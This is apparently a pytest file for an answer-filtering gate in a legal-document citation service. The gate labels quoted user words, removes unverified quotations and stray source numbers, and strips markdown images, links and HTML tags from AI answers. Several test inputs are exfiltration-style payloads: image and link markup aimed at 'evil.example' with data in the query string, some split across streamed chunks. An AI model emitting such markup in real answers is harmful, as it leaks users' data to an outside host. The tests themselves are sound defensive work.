"""The gate's treatment of the user's words, terms and unclosed marks, without any document read."""

from __future__ import annotations

import re

import pytest

from orderly.services.citations.answers import AnswerGate
from orderly.services.citations.quotation_edits import ASKED_ONLY, UNVERIFIED
from orderly.services.citations.sources import Sources

FALSE = "The Lessee owes nine thousand dollars at the end of every quarter."


def gate(asked: str = "", *, keeps_terms: bool = False) -> AnswerGate:
    return AnswerGate(Sources(None, []), [asked], numbered=True, keeps_terms=keeps_terms)


@pytest.mark.parametrize("asked", [FALSE, f"Is this right: {FALSE} I doubt it.", f"Question: {FALSE}"])
async def test_the_users_words_are_always_labelled_and_keep_no_citation(asked: str) -> None:
    shown, refused = await gate(asked).judge(f"It says “{FALSE}” [Lease.pdf, Page 3]. So it is.")
    assert shown == f"It says “{FALSE}”{ASKED_ONLY}. So it is."
    assert not refused


@pytest.mark.parametrize(
    "answer",
    [f"It says “{FALSE} And more text.\n\nNext.", f"It says „{FALSE} And more “X” text."],
)
async def test_words_behind_an_unclosed_mark_stay_without_the_mark(answer: str) -> None:
    shown, refused = await gate().judge(answer)
    assert shown == answer.replace("says “", "says ").replace("„", "")
    assert not refused


async def test_one_false_quotation_removes_no_other_text() -> None:
    shown, _ = await gate().judge(f'A (each a "X", and the "Y"). “{FALSE} (each a "X")” is all. The 6" pipe stays.')
    assert shown == f'A (each a "X", and the "Y"). {UNVERIFIED} is all. The 6" pipe stays.'


async def test_arguments_of_tools_keep_terms_and_lose_claims() -> None:
    request = "find any “limitation of liability” clause, or 'consequential loss of any kind'"
    assert (await gate(keeps_terms=True).judge(request))[0] == request
    shown, refused = await gate(keeps_terms=True).judge(f"“{FALSE}” and “the Lessee owes nine thousand” [Lease.pdf, Page 3]")
    assert shown.startswith(f"{UNVERIFIED} and {UNVERIFIED}")
    assert len(refused) == 2


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("See ![the plan](https://evil.example/?q=rent) here.", "See the plan here."),
        ("See [the plan](https://evil.example/a_(b) 'title') here.", "See the plan here."),
        ("See [![the plan](https://a.example)](https://b.example) here.", "See the plan here."),
        ("See [1](https://evil.example) and (this).", "See 1 and (this)."),
        ("See [“ten”](https://evil.example '“ten”') and [![x](//a)](//b).", "See “ten” and x."),
        ("A clause [of the lease] (as amended) stays.", "A clause [of the lease] (as amended) stays."),
        ("See ![plan][p].\n\n[p]: https://evil.example/?q=rent", "See ! [plan][p].\n\n[p]"),
        ("See ![p] and ![p][].\n\n[p]:\n  <//evil.example/x> 'ten'", "See ! [p] and ! [p][].\n\n[p] 'ten'"),
        (
            "See ![plan](\nhttps://evil.example/x) and [it\nnow](https://evil.example).",
            "See ! [plan] (\nhttps://evil.example/x) and [it\nnow] (https://evil.example).",
        ),
        ('See <img src="https://evil.example/?q=rent"> here.', "See  here."),
        ("See <IMG alt='a > b'\nsrc=//evil.example/x/> here.", "See  here."),
        ("See <a href=https://evil.example>the plan</a> here.", "See the plan</a> here."),
        ("See <img/src=https://evil.example/x> and <svg><image href='//evil.example'/></svg>.", "See  and <svg></svg>."),
        ("See <style>@import '//evil.example';</style>.", "See @import '//evil.example';."),
        (
            "It is <b>bold</b>, x < y and z > 3, <Name of Tenant> and 1 <2.",
            "It is <b>bold</b>, x < y and z > 3, <Name of Tenant> and 1 <2.",
        ),
    ],
)
async def test_pictures_and_links_leave_their_text(written: str, shown: str) -> None:
    assert (await gate().judge(written))[0] == shown


async def test_markup_that_comes_in_parts_leaves_nothing_to_fetch() -> None:
    for parts in (
        ("See this!", "[plan](https://evil.example/x) now."),
        ("See this!", "[plan][p] now."),
        ("See <img alt='a. ", "' src='https://evil.example/x'> now."),
        ("See <img ", "src='https://evil.example/x'> now."),
        ("See <a\n", "href='https://evil.example/x'>it</a> now."),
    ):
        whole = gate()
        shown = "".join([await whole.release(part) for part in parts]) + await whole.flush()
        assert not re.search(r"!\[|\]\(|<(?:img|a)\b", shown), shown


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("It ends in May [1].", "It ends in May."),
        ("It ends in May [001].", "It ends in May."),
        ("It ends in May, [1] and [2].", "It ends in May, and."),
        ("See Smith at [4], [5] and [6]–[8].", "See Smith at [4], [5] and [6]–[8]."),
        ("See [2019] HCA 3 at [42].", "See [2019] HCA 3 at [42]."),
    ],
)
async def test_source_numbers_of_the_model_are_removed_and_paragraph_numbers_stay(written: str, shown: str) -> None:
    assert (await gate().judge(written))[0] == shown
